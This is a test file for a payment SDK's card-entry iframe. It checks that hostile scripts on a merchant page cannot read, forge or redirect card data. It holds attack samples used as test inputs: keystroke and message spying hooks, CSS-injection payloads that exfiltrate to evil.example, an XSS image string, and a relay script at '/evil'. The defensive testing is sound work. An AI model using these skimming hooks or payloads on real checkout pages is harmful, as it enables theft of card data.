import { randomInt } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { passesLuhn } from '../src/card/card-number.ts';
import { field, open, openCardFields, order } from './support/card-fields.ts';
import { openSeparately, separateFields } from './support/separate-fields.ts';
import { ShopVisit } from './support/shop-page.ts';
import { shop, visit } from './support/shop-visit.ts';

openCardFields();

const separate = separateFields(() => visit);

describe('a page at an origin that the merchant does not allow', () => {
  test('gets an error at once', async () => {
    visit.allowCardFields('https://another-shop.example');
    await visit.open();
    expect(await visit.mountError('card')).toMatchObject({
      kind: 'origin_not_allowed',
      message: `${shop.origin} is not an allowed origin.`,
    });
    expect(await visit.page.locator('form').count()).toBe(0);
  });

  test('gets no fields from the frame either, if it leaves out that check', async () => {
    visit.allowCardFields('https://another-shop.example');
    await visit.open();
    const heard = await visit.page.evaluate(async (address) => {
      const heard: unknown[] = [];
      addEventListener('message', ({ data }) => heard.push(data));
      const frame = Object.assign(document.createElement('iframe'), { src: address });
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      await new Promise((resolve) => setTimeout(resolve, 300));
      return heard;
    }, fieldsAddress());
    expect(heard).toEqual([]);
  });

  test('gets no fields if the policy let it frame them: the frame compares the origin of the message, too', async () => {
    visit.allowCardFields('https://another-shop.example');
    visit.service.framedByAnyone = true;
    await visit.open();
    const heard = await frameAndOpen({ session: sessionOfOrder() });
    expect(heard).toEqual([{ type: 'failed', why: `${shop.origin} is not an allowed origin` }]);
    expect(await visit.page.frames()[1]?.locator('input').count()).toBe(0);
  });

  test('gets no fields with a session of another order', async () => {
    await visit.open();
    const heard = await frameAndOpen({ session: 'another' });
    expect(heard).toEqual([{ type: 'failed', why: expect.stringContaining('SESSION_INVALID') }]);
  });
});

const fieldsAddress = () => `${visit.service.baseUrl}/checkout/${order().order.order_id}/fields`;
const sessionOfOrder = () => new URLSearchParams(new URL(visit.service.payUrl).hash.slice(1)).get('session');

/**
 * A script that sends messages to the frame without the SDK. Returns the messages that it receives, through the port and
 * outside of it.
 */
function frameAndOpen(opening: object, more: readonly object[] = []): Promise<unknown[]> {
  return visit.page.evaluate(
    async ([address, message, further]) => {
      const heard: unknown[] = [];
      const frame = Object.assign(document.createElement('iframe'), { src: address });
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => heard.push(data);
      const greeted = new Promise((resolve) => addEventListener('message', resolve, { once: true }));
      document.body.append(frame);
      await greeted;
      frame.contentWindow?.postMessage(message, '*', [port2]);
      for (const one of further) port1.postMessage(one);
      while (heard.length === 0) await new Promise((resolve) => setTimeout(resolve, 20));
      return heard;
    },
    [
      fieldsAddress(),
      { source: 'kassa-card-page', cardBrands: [], texts: {}, look: {}, ...opening },
      more,
    ] as const,
  );
}

describe('a hostile script of the page', () => {
  /** A card number that occurs nowhere else. */
  function canaryNumber(): string {
    for (;;) {
      const number = `4${Array.from({ length: 15 }, () => randomInt(10)).join('')}`;
      if (passesLuhn(number)) return number;
    }
  }

  /** Runs before the page's own scripts, and records everything that passes through the functions that the SDK could use. */
  async function spy(): Promise<void> {
    await visit.page.addInitScript(() => {
      if (window.parent !== window) return;
      const seen: string[] = [];
      Object.assign(window, { seen });
      const note = (...values: unknown[]) => {
        for (const value of values) {
          try {
            seen.push(JSON.stringify(value) ?? String(value));
          } catch {
            seen.push(String(value));
          }
        }
      };
      const { fetch } = window;
      window.fetch = (...given) => {
        note(...given);
        return fetch(...given);
      };
      const add = EventTarget.prototype.addEventListener;
      EventTarget.prototype.addEventListener = function (type, listener, options) {
        const heard = (event: Event) => {
          note(type, (event as MessageEvent).data, (event as KeyboardEvent).key, (event as InputEvent).data);
          if (typeof listener === 'function') listener.call(this, event);
          else listener?.handleEvent(event);
        };
        add.call(this, type, heard, options);
      };
      for (const type of [
        'keydown',
        'keyup',
        'keypress',
        'beforeinput',
        'input',
        'paste',
        'copy',
        'message',
      ]) {
        window.addEventListener(type, () => undefined, true);
      }
      const post = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (message: unknown, ...rest: unknown[]) {
        note(message);
        Reflect.apply(post, this, [message, ...rest]);
      };
      const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
      Object.defineProperty(MessagePort.prototype, 'onmessage', {
        set(listener) {
          onmessage?.set?.call(this, (event: MessageEvent) => {
            note(event.data);
            listener(event);
          });
        },
      });
      const { stringify } = JSON;
      JSON.stringify = (value: never, ...rest: never[]) => {
        const text = stringify(value, ...rest);
        seen.push(text);
        return text;
      };
    });
  }

  const seen = () => visit.page.evaluate(() => (Reflect.get(window, 'seen') as string[]).join('\n'));

  test.each([
    ['in one frame', () => open(), { number: field, expiry: field, code: field }],
    ['in frames of their own', () => openSeparately(visit), separate],
  ] as const)(
    'no script of the merchant’s page can read the card that the consumer enters and pays with (fault 64): %s',
    async (_, start, at) => {
      const number = canaryNumber();
      await spy();
      await start();
      await at.number('Card number').pressSequentially(number);
      await at.expiry('Expiry date').pressSequentially('1234');
      await at.code('Security code').pressSequentially('987');
      const read = await visit.page.evaluate(() => {
        const tries = [...document.querySelectorAll('iframe')].flatMap((frame): (() => unknown)[] => [
          () => frame?.contentDocument?.body.innerHTML ?? null,
          () => frame?.contentWindow?.document.body.innerHTML,
          () => frame?.contentWindow?.location.href,
          () => Reflect.get(frame?.contentWindow ?? {}, 'name'),
          () => frame?.contentWindow?.length,
          () => Object.keys(frame?.contentWindow ?? {}).length,
          () => document.querySelectorAll('input').length,
          () => getSelection()?.toString(),
          () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
          () =>
            // Leave out times, because one of them can contain the digits of the security code by chance.
            JSON.stringify(performance.getEntries(), (_, value) =>
              typeof value === 'number' ? undefined : value,
            ),
        ]);
        return tries.map((attempt) => {
          try {
            return attempt();
          } catch (error) {
            return (error as Error).name;
          }
        });
      });
      await visit.submit();
      expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
      expect(order().submits[0]?.card).toMatchObject({ number, cvc: '987' });
      const known = `${await seen()}\n${JSON.stringify(read)}\n${await visit.page.content()}`;
      for (let frame = 0; frame < read.length; frame += 10) {
        const closed = [null, 'SecurityError', 'SecurityError', 'SecurityError'];
        expect(read.slice(frame, frame + 4)).toEqual(closed);
      }
      expect(known).toContain('"type":"check"');
      expect(known).toContain('transactionId');
      const digits = known.replaceAll(/[^\d]/g, '');
      for (const part of [number, number.slice(0, 8), number.slice(8)]) expect(known).not.toContain(part);
      expect(digits).not.toContain(number);
      // Longer strings, such as an order's ID, can contain so few digits by chance.
      const words = known.split(/[^\da-z]+/i);
      for (const few of [number.slice(-4), '987']) expect(words).not.toContain(few);
    },
  );

  test('forged messages can neither read nor change the card fields (fault 64)', async () => {
    const number = canaryNumber();
    await open();
    await visit.fillCard(number, visit.fields);
    const heard = await visit.page.evaluate(async () => {
      const frame = document.querySelector('iframe');
      const heard: unknown[] = [];
      const listen = (port: MessagePort) => {
        port.onmessage = ({ data }) => heard.push(data);
      };
      addEventListener('message', ({ data, ports }) => heard.push(data, ...ports));
      // A second opening comes too late.
      const { port1, port2 } = new MessageChannel();
      listen(port1);
      frame?.contentWindow?.postMessage(
        { source: 'kassa-card-page', session: 'x', look: {}, texts: {} },
        '*',
        [port2],
      );
      for (const type of ['read', 'value', 'getCard', 'check', 'submit', '__proto__', 'constructor']) {
        const channel = new MessageChannel();
        listen(channel.port1);
        frame?.contentWindow?.postMessage({ source: 'kassa-card-page', type, orderId: 'ord_x' }, '*', [
          channel.port2,
        ]);
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return heard;
    });
    expect(heard).toEqual([]);
    expect(order().submits).toEqual([]);
    expect(await field('Card number').inputValue()).toBe(number.replace(/(\d{4})(?=\d)/g, '$1 '));
  });

  test('even if a script of the merchant’s page opens the card frame itself, the frame sends the card only to the gateway, for the order of the page (fault 64)', async () => {
    await visit.open();
    const { service } = visit;
    const calls: { url: string; body: string | null }[] = [];
    visit.page.on('request', (request) => calls.push({ url: request.url(), body: request.postData() }));
    await visit.page.evaluate(
      async ([address, session]) => {
        const { port1, port2 } = new MessageChannel();
        Object.assign(window, { port: port1, heard: [] });
        const ready = new Promise<void>((resolve) => {
          port1.onmessage = ({ data }) => {
            Reflect.get(window, 'heard').push(data);
            if (data.type === 'ready') resolve();
          };
        });
        const frame = Object.assign(document.createElement('iframe'), { src: address });
        frame.className = 'hostile';
        const greeted = new Promise((resolve) => addEventListener('message', resolve, { once: true }));
        document.body.append(frame);
        await greeted;
        const look = {
          colorLabel: 'red; background: url(//evil.example)',
          variables: {
            colorBackground: 'url(https://evil.example/?a)',
            colorText: 'var(--x)',
            fontFamily: 'a; } input[value^="4"] { background: url(//evil.example) } b {',
            borderRadius: '5px',
          },
        };
        const texts = { number: '<img src=x onerror=alert(1)>' };
        const opening = { source: 'kassa-card-page', session, cardBrands: [], texts, look };
        frame.contentWindow?.postMessage(opening, '*', [port2]);
        await ready;
      },
      [fieldsAddress(), sessionOfOrder()] as const,
    );
    const fields = visit.page.frameLocator('.hostile');
    const number = canaryNumber();
    const inputs = fields.locator('input');
    await inputs.nth(0).fill(number);
    await inputs.nth(1).fill('12/34');
    await inputs.nth(2).fill('987');
    expect(await fields.locator('label').first().textContent()).toBe('<img src=x onerror=alert(1)>');
    const style = await inputs.nth(0).evaluate((input) => {
      const { backgroundImage, borderRadius, color } = getComputedStyle(input);
      return { backgroundImage, borderRadius, color };
    });
    expect(style).toEqual({ backgroundImage: 'none', borderRadius: '5px', color: 'rgb(26, 31, 54)' });
    const answers = await visit.page.evaluate(async () => {
      const port: MessagePort = Reflect.get(window, 'port');
      const ask = (question: object) =>
        new Promise((resolve) => {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = ({ data }) => resolve(data);
          port.postMessage(question, [port2]);
        });
      const payment = {
        terminal: { type: 'PC', userAgent: 'x' },
        orderId: 'ord_other',
        baseUrl: '//evil.example',
      };
      return [await ask({ type: 'check' }), await ask({ type: 'submit', payment })];
    });
    const heard = JSON.stringify([answers, await visit.page.evaluate(() => Reflect.get(window, 'heard'))]);
    expect(answers[0]).toEqual({ isValid: true });
    expect(heard.replaceAll(/[^\d]/g, '')).not.toContain(number);
    const withCard = calls.filter(({ body }) => body?.includes(number));
    for (const { url, body } of withCard) {
      expect(url).toBe(`${service.baseUrl}/api/web/payment/submit`);
      expect(JSON.parse(body ?? '')).toMatchObject({ orderId: order().order.order_id });
    }
    expect(calls.filter(({ url }) => url.includes('evil.example'))).toEqual([]);
  });

  test('if a script of the merchant’s page redirects the card frame to another address, that address gets neither the session nor the card (fault 64)', async () => {
    const evil = await ShopVisit.begin(shop);
    shop.permitted = [visit.service.baseUrl, evil.service.baseUrl];
    await open();
    await visit.fillCard(canaryNumber(), visit.fields);
    shop.own.set('/evil', { type: 'text/html', body: '<!doctype html><script src="/evil.js"></script>' });
    shop.own.set('/evil.js', {
      type: 'text/javascript',
      body: `addEventListener('message', ({ data }) => parent.postMessage({ caught: data }, '*'));
        parent.postMessage({ source: 'kassa-card-frame' }, '*');`,
    });
    const caught = await visit.page.evaluate(async () => {
      const caught: unknown[] = [];
      addEventListener('message', ({ data }) => data.caught && caught.push(data.caught));
      const frame = document.querySelector('iframe');
      if (frame) frame.src = '/evil';
      await new Promise((resolve) => setTimeout(resolve, 500));
      return caught;
    });
    expect(caught).toEqual([]);
    expect(order().submits).toEqual([]);
    await evil.end();
  });
});
